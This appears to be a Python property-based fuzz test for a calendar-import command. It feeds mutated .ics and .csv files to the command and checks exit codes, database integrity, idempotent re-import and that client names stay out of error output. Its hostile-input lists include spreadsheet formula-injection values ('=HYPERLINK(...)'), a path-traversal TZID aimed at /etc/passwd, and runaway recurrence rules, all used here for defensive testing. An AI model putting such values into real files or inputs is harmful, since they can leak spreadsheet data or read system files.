"""Fuzz: ``sessionkit import`` over mutated .ics and .csv calendars, as a user runs it (subprocess).

For every mutated calendar: the exit status is 0, 1 or 2 (never 3, an
unexpected error); exit 2 prints exactly one line on stderr; no run takes
longer than its time bound (the subprocess timeout); the database passes
``PRAGMA integrity_check``; a second identical import creates nothing.

Bounded for CI: a dozen calendars per format (two runs each), a 60-second
bound per run. ``HYPOTHESIS_PROFILE=thorough`` does not raise these bounds
(they are set here): run this file with ``--hypothesis-seed`` to explore.
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sessionkit.adapters.sqlite import open_database
from sessionkit.demo import sample_calendar, seed_demo

pytest.importorskip("icalendar")

SRC = Path(__file__).resolve().parents[2] / "src"
RUN_SECONDS = 60
"""The time bound of one import run: a run over it fails the test."""
RANGE = ("--from", "2026-02-01", "--to", "2026-04-30")
CLIENT_NAMES = ("Ada", "Byron", "Grace", "Hopper", "Alan", "Turing", "Mary", "Jackson")

HOSTILE_ICS_LINES = [
    "DTSTART:20260310T100000Z",
    "DTEND:20260310T105000Z",
    "DURATION:PT50M",
    'UID:=HYPERLINK("http://x/?"&B2)',
    "DTSTART;TZID=" + "A" * 300 + ":20260310T100000",
    "DTSTART;TZID=../../../etc/passwd:20260310T100000",
    "DTSTART:00010101T000000Z",
    "DTSTART:99991231T235959Z",
    "RRULE:FREQ=MINUTELY",
    "RRULE:FREQ=SECONDLY;INTERVAL=1",
    "RRULE:FREQ=DAILY;BYHOUR=1,2,3,4,5,6,7,8,9,10;BYMINUTE=0,10,20,30,40,50",
    "RRULE:FREQ=DAILY;UNTIL=99991231T000000Z",
    "RRULE:FREQ=WEEKLY;COUNT=-1",
    "RECURRENCE-ID:20260310T150000Z",
    "EXDATE:20260310T150000Z",
    "RDATE:00010101T000000Z",
    "BEGIN:VEVENT",
    "END:VEVENT",
    "END:VCALENDAR",
    "STATUS:CANCELLED",
    "SUMMARY:Therapy - Ada Byron",
    "\x00\x01\x02",
    "X-" + "Y" * 5000 + ":z",
]
HOSTILE_CSV_CELLS = [
    "2026-03-10T10:00+24:00",
    "0001-01-01T00:00+05:00",
    "9999-12-31T23:59-05:00",
    '=HYPERLINK("http://x")',
    "-1",
    "1e308",
    "NaN",
    "",
    '"',
    "Ada Byron",
    "3/10/2026 9:00 PM",
    "\x00",
    "x" * 3000,
]
CSV_BASE = (
    "title,start,duration_minutes,status\n"
    "Therapy - Ada Byron,3/03/2026 10:00,45,\n"
    "Grace Hopper,3/05/2026 14:00,60,\n"
    "Alan Turing,3/10/2026 21:00,50,cancelled\n"
    "Mary Jackson,2026-03-12T09:00-05:00,45,\n"
)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with the demo practice, copied for every example."""
    path = tmp_path_factory.mktemp("fuzz") / "template.db"
    with open_database(path) as db:
        seed_demo(db.unit_of_work())
    return path


@st.composite
def mutated_lines(draw: st.DrawFn, base: list[str], hostile: list[str]) -> list[str]:
    """``base`` with a few lines deleted, duplicated, swapped for hostile ones or cut."""
    lines = list(base)
    for _ in range(draw(st.integers(1, 4))):
        if not lines:
            break
        at = draw(st.integers(0, len(lines) - 1))
        action = draw(st.sampled_from(["delete", "duplicate", "insert", "replace", "cut", "garble"]))
        if action == "delete":
            del lines[at]
        elif action == "duplicate":
            lines.insert(at, lines[at])
        elif action == "insert":
            lines.insert(at, draw(st.sampled_from(hostile)))
        elif action == "replace":
            lines[at] = draw(st.sampled_from(hostile))
        elif action == "cut":
            lines = lines[:at]
        else:
            lines[at] = draw(st.text(max_size=30).map(lambda t: t.replace("\n", " ").replace("\r", " ")))
    return lines


@st.composite
def mutated_csv(draw: st.DrawFn) -> str:
    """The CSV base with some cells or lines replaced by hostile ones."""
    rows = [line.split(",") for line in CSV_BASE.splitlines()]
    for _ in range(draw(st.integers(1, 4))):
        row = draw(st.integers(0, len(rows) - 1))
        col = draw(st.integers(0, len(rows[row]) - 1))
        rows[row][col] = draw(st.sampled_from(HOSTILE_CSV_CELLS))
    lines = [",".join(r) for r in rows]
    return "\n".join(draw(mutated_lines(lines, [*HOSTILE_CSV_CELLS, "a,b,c,d,e"]))) + "\n"


def _environment() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(
        [str(SRC), *filter(None, env.get("PYTHONPATH", "").split(os.pathsep))]
    )
    env["PYTHONIOENCODING"] = "utf-8"
    env.pop(_csv_secret_variable(), None)
    return env


def _csv_secret_variable() -> str:
    from sessionkit.cli import CSV_KEY_SECRET_ENV

    return CSV_KEY_SECRET_ENV


def _import(calendar: Path, db: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "sessionkit", "import", str(calendar), "--db", str(db), *RANGE],
        cwd=calendar.parent,
        env=_environment(),
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="replace",
        timeout=RUN_SECONDS,  # a run over its bound raises TimeoutExpired: the test fails
        check=False,
    )


def _count(db: Path) -> int:
    with sqlite3.connect(db) as conn:
        (n,) = conn.execute("SELECT count(*) FROM sessions").fetchone()
    conn.close()
    return int(n)


def _check_run(done: subprocess.CompletedProcess[str]) -> None:
    assert done.returncode in {0, 1, 2}, done.stderr
    assert "Traceback" not in done.stderr
    if done.returncode == 2:
        assert len(done.stderr.strip().splitlines()) == 1, done.stderr
        assert done.stdout == ""
    for name in CLIENT_NAMES:
        assert name not in done.stderr


def _integrity(db: Path) -> str:
    with sqlite3.connect(db) as conn:
        (result,) = conn.execute("PRAGMA integrity_check").fetchone()
    conn.close()
    return str(result)


def _fuzz_once(template: Path, text: str, suffix: str, folder: Path) -> None:
    db = folder / "practice.db"
    shutil.copyfile(template, db)
    calendar = folder / f"calendar{suffix}"
    calendar.write_text(text, encoding="utf-8", errors="surrogateescape", newline="")
    first = _import(calendar, db)
    _check_run(first)
    assert _integrity(db) == "ok"
    after_first = _count(db)
    second = _import(calendar, db)
    _check_run(second)
    assert second.returncode == first.returncode
    assert _integrity(db) == "ok"
    assert _count(db) == after_first, "a second identical import created sessions"
    if second.returncode == 0:
        assert ": nothing new to import" in second.stdout


SAMPLE_LINES = sample_calendar().splitlines()
FUZZ = settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    database=None,
)


@FUZZ
@given(lines=mutated_lines(SAMPLE_LINES, HOSTILE_ICS_LINES))
def test_import_of_mutated_ics_files(
    lines: list[str], template: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A mutated sample calendar: exit 0/1/2, one stderr line on 2, intact database, re-import creates nothing."""
    _fuzz_once(template, "\r\n".join(lines) + "\r\n", ".ics", tmp_path_factory.mktemp("ics"))


@FUZZ
@given(text=mutated_csv())
def test_import_of_mutated_csv_files(
    text: str, template: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A mutated CSV calendar: exit 0/1/2, one stderr line on 2, intact database, re-import creates nothing."""
    _fuzz_once(template, text, ".csv", tmp_path_factory.mktemp("csv"))
